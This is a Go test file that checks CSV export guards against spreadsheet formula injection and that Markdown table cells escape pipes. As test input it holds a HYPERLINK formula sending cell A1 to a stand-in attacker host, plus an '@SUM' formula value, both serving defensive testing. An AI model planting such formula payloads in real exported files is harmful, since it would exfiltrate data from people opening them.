package reports

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVFormulaGuarded: a cell a user wrote (here the protocol's
// currency) that a spreadsheet would run as a formula is written after a
// single quote; numbers, negative ones included, stay numbers.
func TestCSVFormulaGuarded(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"EUR")`
	r := &Results{Cost: []CostRow{{Design: "A", SuiteRuns: 1, Currency: evil}},
		Paired: []PairedRow{{A: "A", B: "B", Class: "@SUM(1)", Diff: -0.5}}}
	for _, tb := range Tables(r) {
		if tb.Name != "cost" && tb.Name != "paired" {
			continue
		}
		data, err := tb.CSV()
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("%s.csv: cell %q starts a formula", tb.Name, c)
				}
				if strings.HasPrefix(c, "-") && c != "-0.5" {
					t.Errorf("%s.csv: cell %q starts a formula", tb.Name, c)
				}
			}
		}
		if tb.Name == "cost" && !strings.Contains(string(data), `'=HYPERLINK`) {
			t.Errorf("cost.csv does not hold the guarded currency:\n%s", data)
		}
		if tb.Name == "paired" && !strings.Contains(string(data), ",-0.5") {
			t.Errorf("paired.csv changed a negative number:\n%s", data)
		}
	}
}

// TestMarkdownCellBackslash: a backslash before a pipe cannot end a
// Markdown table cell early.
func TestMarkdownCellBackslash(t *testing.T) {
	for _, in := range []string{`EUR\|x`, `a\\|b`, `\`, `|`, `x\`} {
		row := "| " + mdCell.Replace(in) + " | next |"
		if n := len(gfmCells(row)); n != 2 {
			t.Errorf("%q escaped as %q: the row has %d cells, want 2", in, row, n)
		}
	}
}

// gfmCells splits a GitHub-flavoured Markdown table row into its cells: a
// pipe ends a cell unless a backslash escapes it, and a backslash escapes
// the character after it.
func gfmCells(row string) []string {
	row = strings.TrimSpace(row)
	row = strings.TrimPrefix(row, "|")
	var cells []string
	var cur strings.Builder
	for i := 0; i < len(row); i++ {
		switch c := row[i]; {
		case c == '\\' && i+1 < len(row):
			cur.WriteByte(c)
			cur.WriteByte(row[i+1])
			i++
		case c == '|':
			cells = append(cells, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	if strings.TrimSpace(cur.String()) != "" {
		cells = append(cells, cur.String())
	}
	return cells
}
